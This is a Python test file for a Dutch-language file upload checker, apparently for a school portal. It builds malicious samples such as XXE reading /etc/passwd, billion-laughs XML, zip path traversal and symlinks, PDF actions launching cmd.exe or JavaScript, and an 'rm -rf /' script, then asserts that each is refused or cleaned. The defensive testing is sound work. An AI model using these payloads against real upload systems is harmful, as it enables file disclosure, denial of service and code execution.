"""What may come in: a corpus of files that are fine, and of files that are not, made here (T36)."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageOps

from kern.bestanden.controle import Afgekeurd, Grenzen, controleren
from kern.bestanden.proces import keuren
from tests.stukken import (
    DOCX_DELEN,
    EEN_VAN_ELK,
    HOOFD,
    ODT_DELEN,
    PDF,
    RELATIE,
    als_bytes,
    beeld,
    docx,
    exif,
    foto,
    odt,
    pdf,
    zip_met,
)

GRENZEN = Grenzen()


def pdf_met(verander) -> bytes:
    """A PDF of one page in which something was put."""
    with pikepdf.open(BytesIO(PDF)) as document:
        verander(document)
        return als_bytes(document)


def actie(soort: str, **meer) -> Dictionary:
    return Dictionary(S=Name(f"/{soort}"), **meer)


def bij_openen(soort: str, **meer):
    return pdf_met(lambda p: p.Root.__setattr__("OpenAction", actie(soort, **meer)))


def ingesloten(document: pikepdf.Pdf) -> None:
    document.attachments["lijst.xlsx"] = b"PK\x03\x04"


def aan_een_knop(document: pikepdf.Pdf) -> None:
    knop = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=actie("Launch", F="cmd.exe"))
    document.pages[0].obj.Annots = Array([knop])


def relaties(doel: str, soort: str, *, buiten: bool = True) -> str:
    mode = ' TargetMode="External"' if buiten else ""
    return (
        f'<Relationships xmlns="{HOOFD}"><Relationship Id="r9" Type="{RELATIE}/{soort}" Target="{doel}"{mode}/>'
        "</Relationships>"
    )


def png_kop(breedte: int, hoogte: int) -> bytes:
    """The head of a picture that says to be very large."""
    kop = b"IHDR" + struct.pack("!IIBBBBB", breedte, hoogte, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack("!I", 13)
        + kop
        + struct.pack("!I", zlib.crc32(kop))
        + b"\0\0\0\x0aIDAT"
        + b"\0" * 60
    )


def met_wachtwoord_in_zip() -> bytes:
    data = bytearray(docx())
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def koppeling() -> bytes:
    uit = BytesIO(docx())
    with zipfile.ZipFile(uit, "a") as zip_:
        link = zipfile.ZipInfo("word/media/plaatje.png")
        link.external_attr = 0o120777 << 16
        zip_.writestr(link, "/etc/passwd")
    return uit.getvalue()


def dubbel() -> bytes:
    return zip_met(DOCX_DELEN | {"Word/Document.xml": "<andere/>"})


XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LACHEN = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
KWAAD: dict[str, tuple[bytes, str]] = {
    # --- not one of the kinds
    "leeg": (b"", "is leeg"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "kan niet"),
    "html als pdf": (b"<!doctype html><script>alert(1)</script>", "kan niet"),
    "html met pdf erachter": (b"<html>" + PDF, "kan niet"),
    "windows-programma": (b"MZ" + b"\0" * 300, "kan niet"),
    "linux-programma": (b"\x7fELF" + b"\0" * 300, "kan niet"),
    "rar": (b"Rar!\x1a\x07\x00" + b"\0" * 300, "kan niet"),
    "gif": (b"GIF89a" + b"\0" * 300, "kan niet"),
    "tekst": (b"gewoon tekst", "kan niet"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "kan niet"),
    "oud word of wachtwoord": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "oud of met een wachtwoord"),
    "gewone zip": (zip_met({"lees.txt": "hallo"}), "kan niet"),
    "java-archief": (zip_met({"META-INF/MANIFEST.MF": "Main-Class: X"}), "kan niet"),
    "excel": (zip_met({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}), "kan niet"),
    # --- PDF
    "pdf zonder inhoud": (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "pagina|geopend"),
    "afgebroken pdf": (PDF[: len(PDF) // 3], "pagina|geopend"),
    "pdf met alleen rommel": (b"%PDF-1.4\n" + bytes(range(256)) * 40, "pagina|geopend"),
    "pdf met wachtwoord": (pdf(encryption=pikepdf.Encryption(user="geheim", owner="geheim")), "wachtwoord"),
    "te veel pagina's": (pdf(501), "501 pagina’s"),
    "pdf met ingesloten bestand": (pdf_met(ingesloten), "bevat andere bestanden"),
    "invulformulier van adobe": (
        pdf_met(lambda p: p.Root.__setattr__("AcroForm", Dictionary(Fields=Array([]), XFA=Array([])))),
        "invulformulier",
    ),
    # --- documents of an office
    "docm": (
        docx({"[Content_Types].xml": DOCX_DELEN["[Content_Types].xml"].replace("document.main", "macroEnabled.main")}),
        "macro",
    ),
    "macro in docx": (docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro"),
    "macro met hoofdletters": (docx({"word/VBAPROJECT.BIN": b"x"}), "macro"),
    "activex": (docx({"word/activeX/activeX1.xml": "<x/>"}), "macro"),
    "ole-object": (docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "macro"),
    "macro in odt": (odt({"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
    "script in odt": (odt({"Scripts/python/kwaad.py": "import os"}), "macro"),
    "xxe in docx": (docx({"word/document.xml": XXE}), "geopend"),
    "xxe in odt": (odt({"content.xml": XXE}), "geopend"),
    "miljard keer lachen": (docx({"word/settings.xml": LACHEN}), "geopend"),
    "kapotte xml": (docx({"word/document.xml": "<w:document>"}), "geopend"),
    "plaatje van buiten": (
        docx({"word/_rels/document.xml.rels": relaties("https://kwaad.example/pixel.png", "image")}),
        "van buiten",
    ),
    "object van buiten": (
        docx({"word/_rels/document.xml.rels": relaties("mhtml:https://kwaad.example!x", "oleObject")}),
        "van buiten",
    ),
    "kader van buiten": (docx({"word/_rels/webSettings.xml.rels": relaties("http://x.example", "frame")}), "buiten"),
    "verborgen codering": (
        docx({"word/_rels/document.xml.rels": relaties("http://x.example", "image").encode("utf-16")}),
        "geopend",
    ),
    "uit de map": (docx({"../../etc/cron.d/x": "* * * * *"}), "geopend"),
    "van de wortel": (docx({"/etc/passwd": "x"}), "geopend"),
    "backslash": (docx({"..\\x": "x"}), "geopend"),
    "koppeling": (koppeling(), "geopend"),
    "twee keer hetzelfde deel": (dubbel(), "geopend"),
    "bom": (docx({"word/media/bom.xml": b"<x>" + b" " * 30_000_000 + b"</x>"}), "wordt te groot"),
    "te veel onderdelen": (docx({f"word/media/{n}.png": b"" for n in range(2001)}), "te veel onderdelen"),
    "docx met wachtwoord": (met_wachtwoord_in_zip(), "wachtwoord"),
    "odt met wachtwoord": (
        odt({"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
        "wachtwoord",
    ),
    "afgebroken docx": (docx()[:200], "geopend"),
    # --- pictures
    "60.000 bij 60.000 pixels": (png_kop(60_000, 60_000), "pixel"),
    "9.000 bij 9.000 pixels": (png_kop(9_000, 9_000), "9000 bij 9000 pixels"),
    "afgebroken foto": (foto()[:300], "geopend"),
    "alleen het begin van een foto": (b"\xff\xd8\xff\xe0" + b"\0" * 300, "geopend"),
    "kapotte heic": (foto("HEIF")[:200], "geopend"),
}


@pytest.mark.parametrize("wat", sorted(KWAAD))
def test_a_harmful_broken_or_unknown_file_is_refused_with_a_sentence_that_helps(wat):
    data, zin = KWAAD[wat]
    with pytest.raises(Afgekeurd, match=zin):
        controleren(data, GRENZEN)


GOED = EEN_VAN_ELK | {
    "500 bladzijden.pdf": pdf(500),
    "van een kopieermachine.pdf": pdf(encryption=pikepdf.Encryption(user="", owner="beheer")),
    "docx met een link": docx({"word/_rels/document.xml.rels": relaties("https://www.rijksoverheid.nl", "hyperlink")}),
    "docx met een grafiek": docx({"word/embeddings/Microsoft_Excel.xlsx": zip_met({"xl/workbook.xml": "<x/>"})}),
    "odt zonder lijst": zip_met({naam: deel for naam, deel in ODT_DELEN.items() if "manifest" not in naam}),
    "grijze foto": foto(een=beeld().convert("L")),
    "foto van een drukker": foto(een=beeld().convert("CMYK")),
    "doorzichtig": foto("PNG", beeld().convert("RGBA")),
    "met palet": foto("PNG", beeld().convert("P")),
    "foto van 12 megapixel": foto(een=Image.new("RGB", (4000, 3000), "white")),
    "foto van 48 megapixel": foto(een=Image.new("RGB", (8064, 6048), "white")),
}


@pytest.mark.parametrize("wat", sorted(GOED))
def test_what_schools_and_phones_really_make_comes_in(wat):
    goed = controleren(GOED[wat], GRENZEN)
    assert controleren(goed.data, GRENZEN).soort == goed.soort


def test_a_file_of_the_largest_size_comes_in_and_a_larger_one_is_refused_before_it_is_read():
    grens = Grenzen(megabytes=1)
    vol = docx({"word/media/x.png": bytes(zlib.adler32(str(n).encode()) % 256 for n in range(1024 * 1000))})
    assert controleren(vol, grens).data == vol
    with pytest.raises(Afgekeurd, match=r"is 2 MB. Kies een bestand tot 1 MB"):
        controleren(PDF + b"0" * 1024**2, grens)


@pytest.mark.parametrize(
    "data",
    [
        bij_openen("JavaScript", JS="app.alert(1)"),
        bij_openen("Launch", F="cmd.exe"),
        bij_openen("SubmitForm", F="https://kwaad.example"),
        pdf_met(aan_een_knop),
        pdf_met(lambda p: p.pages[0].obj.__setattr__("AA", Dictionary(O=actie("JavaScript", JS="x")))),
        pdf_met(lambda p: p.Root.__setattr__("Names", Dictionary(JavaScript=Dictionary(Names=Array([]))))),
    ],
    ids=["javascript", "launch", "submit", "button", "page", "names"],
)
def test_what_a_pdf_would_do_by_itself_is_taken_out_and_its_pages_stay(data):
    schoon = controleren(data, GRENZEN).data
    for woord in (b"/JavaScript", b"/JS", b"/Launch", b"cmd.exe", b"/SubmitForm", b"/AA"):
        assert woord not in schoon
    with pikepdf.open(BytesIO(schoon)) as document:
        assert len(document.pages) == 1
    assert controleren(schoon, GRENZEN).data == schoon


def test_a_pdf_in_which_nothing_happens_stays_as_it_is_so_that_its_signature_holds():
    assert controleren(PDF, GRENZEN).data == PDF


def test_a_link_to_the_template_of_the_school_is_taken_out_and_the_text_stays():
    """Every Word file made from a template of the school holds where that template lies."""
    instellingen = '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="r9"/><w:zoom/></w:settings>'
    data = docx(
        {
            "word/settings.xml": instellingen,
            "word/_rels/settings.xml.rels": relaties("file://server/sjablonen/brief.dotx", "attachedTemplate"),
        }
    )
    with zipfile.ZipFile(BytesIO(controleren(data, GRENZEN).data)) as zip_:
        alles = b"".join(zip_.read(naam) for naam in zip_.namelist())
    assert b"attachedTemplate" not in alles
    assert b"server" not in alles
    assert b"<w:zoom/>" in alles
    assert b"Verslag" in alles


@pytest.mark.parametrize("soort", ["JPEG", "PNG", "HEIF"])
def test_a_photo_is_made_anew_without_where_and_by_whom(soort):
    data = foto(soort, exif=exif()) + b"<script>alert(1)</script>"
    schoon = controleren(data, GRENZEN).data
    assert b"TelefoonVanAnouk" not in schoon
    assert b"<script>" not in schoon
    with Image.open(BytesIO(schoon)) as een:
        assert not dict(een.getexif())
        assert een.size == (60, 40)


@pytest.mark.parametrize("orientatie", range(1, 9))
@pytest.mark.parametrize("soort", ["JPEG", "HEIF"])
def test_a_photo_stands_upright_as_it_was_held(soort, orientatie):
    data = foto(soort, exif=exif(orientatie=orientatie))
    bedoeld = beeld()
    bedoeld.getexif()[0x0112] = orientatie
    bedoeld = ImageOps.exif_transpose(bedoeld)
    with Image.open(BytesIO(controleren(data, GRENZEN).data)) as een:
        assert een.size == bedoeld.size
        rood = [hoek for hoek in _hoeken(een) if een.getpixel(hoek)[0] > 200]
        assert rood == [hoek for hoek in _hoeken(bedoeld) if bedoeld.getpixel(hoek)[0] > 200]


def _hoeken(een: Image.Image):
    breedte, hoogte = een.size
    return [(2, 2), (breedte - 3, 2), (2, hoogte - 3), (breedte - 3, hoogte - 3)]


def test_a_large_photo_is_kept_at_a_size_that_can_be_read():
    with Image.open(BytesIO(controleren(foto(een=Image.new("RGB", (8000, 6000))), GRENZEN).data)) as een:
        assert max(een.size) == GRENZEN.zijde


# --- in a process of its own -------------------------------------------------------------------------------------


def test_the_check_in_its_own_process_gives_the_same_verdicts():
    for data in (EEN_VAN_ELK["IMG_0042.heic"], EEN_VAN_ELK["verslag.docx"]):
        assert keuren(data, GRENZEN) == controleren(data, GRENZEN)
    with pytest.raises(Afgekeurd, match="macro"):
        keuren(KWAAD["macro in docx"][0], GRENZEN)


def test_a_file_on_which_the_check_does_not_come_back_is_refused(monkeypatch):
    monkeypatch.setattr("kern.bestanden.proces.WACHTTIJD", 0.01)
    with pytest.raises(Afgekeurd, match="te ingewikkeld"):
        keuren(EEN_VAN_ELK["foto.jpg"], GRENZEN)


def test_the_process_knows_no_keys_of_the_portal(monkeypatch):
    gezien = {}
    monkeypatch.setenv("SECRET_KEY", "geheim")
    monkeypatch.setattr("kern.bestanden.proces.subprocess.run", lambda *a, env, **k: gezien.update(env) or 1 / 0)
    with pytest.raises(ZeroDivisionError):
        keuren(PDF, GRENZEN)
    assert not {"SECRET_KEY", "DATABASE_URL", "VERSLEUTELSLEUTELS"} & set(gezien)
